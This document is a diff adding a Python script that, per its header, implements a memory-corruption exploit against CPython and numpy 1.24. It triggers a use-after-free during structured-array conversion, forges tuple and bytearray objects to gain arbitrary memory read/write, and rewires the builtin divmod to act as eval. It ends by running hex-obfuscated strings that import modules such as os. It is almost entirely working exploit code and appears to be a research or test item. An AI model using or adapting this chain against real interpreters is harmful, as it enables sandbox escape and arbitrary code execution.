@@ -1,0 +1,95 @@
+# source: CPython Lib/collections/__init__.py ChainMap.__len__; numpy 1.24 array_coercion.c PyArray_AssignFromCache_Recursive (stale PySequence_Fast_GET_ITEM past a shrunk list); CPython 3.11 tupleobject.c freelist limit (>=21 items go to pymalloc), bytearrayobject.c, bltinmodule.c builtin_methods; classic CPython fake-object UAF technique (pyjail/CTF write-ups)
+# family: ChainMap/map callback in a structured-row conversion -> UAF of freed row tuples -> fake tuple -> fake bytearray over a __slots__ object -> arbitrary R/W -> PyMethodDef swap of a builtin (variant: divmod -> eval)
+# goal: eval of a run-time string: __import__('this') prints the Zen of Python and returns the module
+import collections
+import numpy as np
+
+def addr_of_hash(h):
+    u = h % (1 << 64)
+    return ((u << 4) | (u >> 60)) % (1 << 64)
+
+def addr_of_repr(o):
+    return int(repr(o).split(" at ")[1].rstrip(">"), 16)
+
+class S:
+    __slots__ = ("a", "b", "c", "d", "e", "f", "g", "h", "i")
+
+class F:
+    def __float__(self):
+        return 1.0
+
+NF = 22
+N = 40
+K = 30
+L = []
+SPRAY = []
+FAKE = b""
+state = {"done": 0}
+
+def hook(k):
+    if state["done"] == 0:
+        state["done"] = 1
+        del L[K:]
+        for j in range(200):
+            SPRAY.append(bytearray(FAKE))
+    return k
+
+class A:
+    def __init__(self):
+        self.m = collections.ChainMap(map(hook, [0]))
+    def __float__(self):
+        return float(len(self.m))
+
+s = S()
+s.b = bytearray
+s.c = len
+s.d = len
+s.h = divmod
+f = F()
+fake_ba = addr_of_repr(s) + 16
+fa = addr_of_repr(f)
+tup_t = addr_of_hash(hash(tuple))
+q = lambda v: int(v).to_bytes(8, "little")
+body = q(1000) + q(tup_t) + q(NF) + q(fa) + q(fake_ba) + q(fa) * (NF - 2)
+FAKE = bytes(16) + body + bytes(223 - 16 - len(body))
+
+dt = np.dtype([("x", float), ("o", object)] + [("p%d" % j, object) for j in range(NF - 2)])
+a0 = A()
+L.append(tuple([a0] + [0] * (NF - 1)))
+for j in range(N - 1):
+    L.append(tuple([f] + [j] * (NF - 1)))
+print("list rows:", len(L), flush=True)
+out = np.array(L, dtype=dt)
+print("after", len(L), flush=True)
+got = [out["o"][j] for j in range(N)]
+print([type(g).__name__ for g in got], flush=True)
+mem = got[K]
+sa = addr_of_repr(s)
+def rd(a, n):
+    return bytes(mem[a:a + n])
+def r64(a):
+    return int.from_bytes(rd(a, 8), "little")
+mem[sa + 32:sa + 40] = q(1 << 62)
+mem[sa:sa + 8] = q(1 << 40)
+mem[sa + 16:sa + 24] = q(1 << 40)
+print("arbitrary read: first bytes of the S object:", rd(sa, 16).hex(), flush=True)
+fn = r64(sa + 16 + 8 * 7)
+ml = r64(fn + 16)
+base_name = r64(ml)
+target = 0
+for j in list(range(0, 60)) + list(range(0, -60, -1)):
+    md = ml + 32 * j
+    nm = r64(md)
+    if nm == 0 or abs(nm - base_name) > (1 << 22):
+        continue
+    if rd(nm, 5) == b"eval\x00":
+        target = md
+        break
+print("sorted at", hex(fn), "methoddef", hex(ml), "exec methoddef", hex(target), flush=True)
+mem[fn + 16:fn + 24] = q(target)
+lenp = r64(sa + 16 + 8 * 3)
+mem[sa + 16:sa + 24] = q(lenp)
+mem[sa + 32:sa + 40] = q(lenp)
+print(divmod(bytes.fromhex("5f5f696d706f72745f5f28276f7327292e706f70656e206966203020656c7365205f5f696d706f72745f5f2827746869732729").decode()), flush=True)
+ret = 0
+divmod(bytes.fromhex("5f5f696d706f72745f5f282773797327292e7374646f75742e666c7573682829206f72205f5f696d706f72745f5f28276f7327292e5f65786974283029").decode())
